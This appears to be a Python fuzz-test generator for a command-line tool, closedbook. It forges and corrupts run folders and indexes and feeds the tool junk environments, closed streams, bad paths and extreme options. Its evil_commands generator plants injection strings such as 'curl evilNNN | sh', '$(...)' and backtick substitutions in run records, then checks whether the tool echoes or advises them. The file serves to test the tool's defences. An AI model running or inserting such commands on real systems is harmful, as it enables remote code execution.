"""Kinds of forged runs and indexes, environments, paths and options, for hostile.py."""

from __future__ import annotations

import contextlib
import json
import os
import shlex
import shutil
from collections.abc import Iterator
from pathlib import Path
from random import Random
from typing import Any

from hostile_files import something_else
from hostile_tries import Done, Setting, Try, kind

from closedbook.runs.store import digest, fingerprint

# Forged --------------------------------------------------------------------------------------------------------------


def monster(rng: Random) -> Any:
    """A value that nobody expects."""
    return rng.choice(
        [None, True, -1, 0, 1.5, 10**30, 10**400, float("nan"), float("inf"), "", "x" * 3000, "../../up", "\ud800",
         "\x1b[31m", [], {}, [[[]]], [None], {"a": {}}, {"": 0}, "1", [1, "2"], "|O", 2**63]
    )  # fmt: skip


def forge(data: Any, rng: Random) -> Any:
    """JSON with one to three values replaced, or gone."""
    for _ in range(rng.randint(1, 3)):
        node = data
        while isinstance(node, (dict, list)) and node:
            key = rng.choice(sorted(node) if isinstance(node, dict) else range(len(node)))
            if isinstance(node[key], (dict, list)) and node[key] and rng.random() < 0.75:
                node = node[key]
            else:
                if isinstance(node, dict) and rng.random() < 0.2:
                    del node[key]
                else:
                    node[key] = monster(rng)
                break
    return data


def spoil(path: Path, rng: Random) -> None:
    """Change, cut or lengthen a file at a few places."""
    content = bytearray(path.read_bytes())
    for _ in range(rng.randint(1, 4)):
        at, size = rng.randrange(len(content) + 1), rng.randint(0, 64)
        content[at : at + rng.choice([0, size, 10 * size])] = rng.randbytes(size)
    path.write_bytes(content)


def seal_run(run: Path, changes: dict[str, Any] | None = None) -> None:
    """Make the hashes and the seal of a run anew, as a stranger could."""
    with contextlib.suppress(ValueError, AttributeError, KeyError):
        record = json.loads((run / "run.json").read_text(encoding="utf-8")) | (changes or {})
        record.pop("seal", None)
        for name in record["files"]:
            if (run / name).is_file():
                record["files"][name] = [fingerprint(run / name)]
        (run / "run.json").write_text(json.dumps({**record, "seal": digest(record)}), encoding="utf-8")


def opening(setting: Setting, rng: Random, run: Path) -> list[Any]:
    """A command that opens a run."""
    commands: list[list[Any]] = [
        ["ask", run, setting.question],
        ["ask", run, setting.question, "--json"],
        ["evaluate", run, "--questions", setting.questions],
        ["card", run],
        ["list", "runs", "--runs", run.parent],
        ["show", "memory", run],
        ["sample", run, "The "],
        ["report", run, "--no-claims", "--output", run.parent / "report.html"],
        ["export", run, "--to", "huggingface", "--output", run.parent / "export"],
        setting.train(run, "--resume"),
    ]
    return rng.choice(commands)


@kind("a run folder whose files hold other types and bytes, its hashes made anew")
def forged_runs(setting: Setting, rng: Random) -> Iterator[Try]:
    while True:
        run = Path(shutil.copytree(setting.words, setting.fresh() / "run"))
        names = ["run.json", "run.json", *sorted(path.name for path in run.iterdir() if path.name != ".lock")]
        name = rng.choice(names)
        if name.endswith(".json") and rng.random() < 0.8:
            data = json.loads((run / name).read_text(encoding="utf-8"))
            (run / name).write_text(json.dumps(forge(data, rng)), encoding="utf-8")
        else:
            spoil(run / name, rng)
        seal_run(run)
        command = opening(setting, rng, run)
        yield Try(f"{name}: {command[0]}", command, megabytes=2048)


@kind("a run folder that records a command to type")
def evil_commands(setting: Setting, rng: Random) -> Iterator[Try]:
    while True:
        run = Path(shutil.copytree(rng.choice([setting.run, setting.words]), setting.fresh() / "run"))
        word = f"evil{rng.randrange(10**6)}"
        evil = rng.choice([f"curl {word} | sh", f"; {word}", f"$({word})", f"`{word}`", f"\n{word}", f"-c {word}"])
        record = json.loads((run / "run.json").read_text(encoding="utf-8"))
        changes: dict[str, Any] = {"command": evil, "mixer_file": f"{word}.py"}
        if rng.random() < 0.5:
            changes["device"] = evil
        if rng.random() < 0.5:
            changes["documents"] = {**record["documents"], "path": f"--mixer={word}.py:Evil"}
        if rng.random() < 0.3:
            changes["status"] = rng.choice(["training", "interrupted"])
        seal_run(run, changes)

        def complaint(done: Done, word: str = word) -> str | None:
            for line in (done.out + done.err).splitlines():
                if "closedbook train" in line or "closedbook cs224n" in line:
                    with contextlib.suppress(ValueError):
                        for part in shlex.split(line.replace("`", " ")):
                            if part.startswith(("--mixer=", "$(", ";")) or part == word:
                                return f"advises {line.strip()[:200]}"
                if "curl" in line or f"{word}.py " in line.replace(f"--mixer={word}.py:Evil", ""):
                    return f"shows {line.strip()[:200]}"
            return None

        command = opening(setting, rng, run)
        yield Try(f"{evil!r}: {command[0]}", command, complaint=complaint, megabytes=2048)


@kind("an index of a corpus with other types, sizes or bytes than were written")
def forged_indexes(setting: Setting, rng: Random) -> Iterator[Try]:
    while True:
        folder = setting.fresh()
        root = Path(shutil.copytree(setting.index, folder / "index"))
        (about,) = root.rglob("index.json")
        path = rng.choice(
            [*sorted(path for path in about.parent.iterdir() if path.name != ".lock"), root / "corpora.json"]
        )
        if path.suffix == ".json" and rng.random() < 0.7:
            how = "forged"
            data = forge(json.loads(path.read_text(encoding="utf-8")), rng)
            if path == about and isinstance(data, dict):
                data.pop("seal", None)
                data["seal"] = digest(data)
            path.write_text(json.dumps(data), encoding="utf-8")
        elif rng.random() < 0.3:
            how = something_else(path, rng)
        else:
            how = "spoiled"
            spoil(path, rng)
        command = setting.train(folder / "run", "--index", root, *rng.choice([[], ["--dry-run"]]))
        yield Try(f"{path.name} {how}", command, megabytes=4096)


# Environments --------------------------------------------------------------------------------------------------------


@kind("environments: processes' numbers, encodings, terminals, limits that are junk")
def environments(setting: Setting, rng: Random) -> Iterator[Try]:
    junk = ["", "two", "-1", "0", "1.5", " 2", "99999999999999999999", "1", "\udcff", "é"]
    while True:
        folder = setting.fresh()
        names = rng.choice(
            [["WORLD_SIZE"], ["WORLD_SIZE", "RANK"], ["RANK", "LOCAL_RANK"], ["CLOSEDBOOK_READ_AT_MOST"], ["COLUMNS"],
             ["LINES"], ["TERM"], ["NO_COLOR"], ["LC_ALL", "LANG"], ["PYTHONIOENCODING"], ["HOME"],
             ["TMPDIR"], ["OMP_NUM_THREADS"], ["COLUMNS", "TERM", "LC_ALL"], ["MASTER_PORT", "WORLD_SIZE"]]
        )  # fmt: skip
        values = {name: rng.choice(junk) for name in names}
        fresh = any(name.startswith(("LC", "LANG", "HOME", "OMP")) for name in values)
        if "LC_ALL" in values:
            values |= {"LC_ALL": "C", "PYTHONUTF8": rng.choice("01"), "PYTHONCOERCECLOCALE": "0"}
        if "PYTHONIOENCODING" in values:
            values["PYTHONIOENCODING"] = rng.choice(["ascii", "latin-1", "ascii:strict"])
            fresh = True
        documents = Path(shutil.copy(setting.documents, folder / rng.choice(["documents.txt", "Göteborg 日本.txt"])))
        commands: list[list[Any]] = [
            setting.train(folder / "run", documents=documents),
            setting.train(folder / "run", "--dry-run", documents=documents),
            ["ask", setting.run, "Where was Åsa 日本 born?"],
            ["baseline", "--questions", setting.questions, "--documents", documents],
            ["list", "recipes"],
            ["show", "recipe", "fast"],
            ["list", "runs", "--runs", folder],
        ]
        command = rng.choice(commands)
        yield Try(f"{values} {command[0]}", command, environment=values, fresh=fresh, megabytes=4096)


@kind("standard streams that are closed or full", share=3)
def streams(setting: Setting, rng: Random) -> Iterator[Try]:
    shells = ['"$@" >&-', '"$@" >/dev/full', '"$@" <&-', '"$@" 2>&-', '"$@" <&- 2>&-', '"$@" | head -c 1 >/dev/null']
    while True:
        folder = setting.fresh()
        commands: list[list[Any]] = [
            ["list", "recipes"],
            ["list", "recipes", "--json"],
            ["show", "recipe", "fast"],
            ["--help"],
            ["ask", setting.run, setting.question, "--json"],
            setting.train(folder / "run", "--json"),
            ["baseline", "--questions", setting.questions, "--answer", "Oslo"],
        ]
        command, shell = rng.choice(commands), rng.choice(shells)
        kept = (setting.run, setting.documents, setting.questions)
        yield Try(f"{shell} {command[0]}", command, fresh=True, shell=shell, kept=kept, megabytes=8192)


@kind("paths that are too long, in a loop, below a file, of a device, or that no file can have")
def paths(setting: Setting, rng: Random) -> Iterator[Try]:
    while True:
        folder = setting.fresh()
        (folder / "loop").symlink_to("loop")
        (folder / "file").write_text("x\n")
        with contextlib.suppress(OSError):
            os.mknod(folder / "null", 0o666 | 0o020000, os.makedev(1, 3))  # /dev/null is not to be tried on
        name = rng.choice(
            ["x" * 300, "x/" * 2500, "loop", "loop/x", "file/x", "no/such/folder/x", "null", "a\nb", "\x1b[31m", " ",
             "~", "\udcff\udcfe", ".", "..", "é" * 200, "-", "--help", "*", "file", "con:", "a" * 255, "a" * 250]
        )  # fmt: skip
        path = f"{folder}/{name}"
        commands: list[list[Any]] = [
            setting.train(path),
            setting.train(path, "--resume"),
            setting.train(folder / "run", documents=path),
            setting.train(folder / "run", questions=path),
            setting.train(folder / "run", "--dev", path),
            setting.train(folder / "run", "--index", path, "--dry-run"),
            setting.train(folder / "run", recipe=path),
            ["ask", path, "Where?"],
            ["ask", setting.run, setting.question, "--documents", path],
            ["card", setting.run, "--output", path],
            ["evaluate", setting.run, "--questions", setting.questions, "--answers", path],
            ["evaluate", setting.run, "--questions", setting.questions, "--predictions", path],
            ["export", setting.run, "--to", "params", "--output", path],
            ["report", setting.run, "--no-claims", "--output", path],
            ["list", "runs", "--runs", path],
            ["import", path, "--run", folder / "new"],
            ["baseline", "--questions", path, "--answer", path],
            ["cs224n", "check", path, "--yes"],
        ]
        command = rng.choice(commands)

        def complaint(done: Done, null: Path = folder / "null") -> str | None:
            return None if not null.exists() or null.is_char_device() else "replaced a device"

        kept = (setting.run, setting.documents, setting.questions, folder / "file")
        if command[:2] == ["card", setting.run] or {"--output", "--answers", "--predictions"} & {*map(str, command)}:
            kept = kept[:3]  # an output over a text is what was asked for
        yield Try(f"{name[:20]!r}: {command[0]}", command, kept=kept, complaint=complaint, megabytes=2048)


@kind("options that are out of all bounds")
def options(setting: Setting, rng: Random) -> Iterator[Try]:
    values = ["1e300", "-1", "nan", "inf", "0", "1e-300", "9" * 400, "[" * 2000, "x", "", "1_0", "true", "'", "{}", "é"]
    keys = [
        "model.width", "model.layers", "model.heads", "model.context_length", "model.dropout", "seed", "answer.length",
        "stages.pretrain.steps", "stages.pretrain.batch", "stages.pretrain.optimiser.rate", "stages.pretrain.clip",
        "stages.nothing.steps", "vocabulary.kind", "data.held_out", "model.mixer", "stages", "", "model.width.x",
    ]  # fmt: skip
    large = ["131072", "100000", "1024", "1000000"]
    while True:
        folder = setting.fresh()
        value = rng.choice(values)
        sets = [part for _ in range(rng.randint(1, 2)) for part in ("--set", f"{rng.choice(keys)}={value}")]
        wide = ["--set", f"model.width={rng.choice(large)}", "--set", f"model.layers={rng.choice(large)}"]
        commands: list[list[Any]] = [
            setting.train(folder / "run", *sets, "--dry-run"),
            setting.train(folder / "run", *sets, "--dry-run"),
            setting.train(folder / "run", *wide, "--dry-run"),
            setting.train(folder / "run", "--threads", value),
            ["sample", setting.run, "The ", "--temperature", value],
            ["sample", setting.run, "The ", "--seed", value],
            ["baseline", "--questions", setting.questions, "--train", setting.questions, "--learn-from", value],
            ["ask", setting.run, "Where? " * rng.choice([1, 1000, 10_000])],
            ["ask", setting.run, value],
            ["cs224n", "check", __file__, "--yes", "--seconds", value],
            ["attention", "1a", "--set", f"n={value}"],
            ["attention", value],
            ["--read-at-most", value, "list", "recipes"],
            [value],
        ]
        command = rng.choice(commands)
        yield Try(f"{' '.join(map(str, command))[-60:]}", command, codes=(0, 1, 2), megabytes=2048, seconds=90)
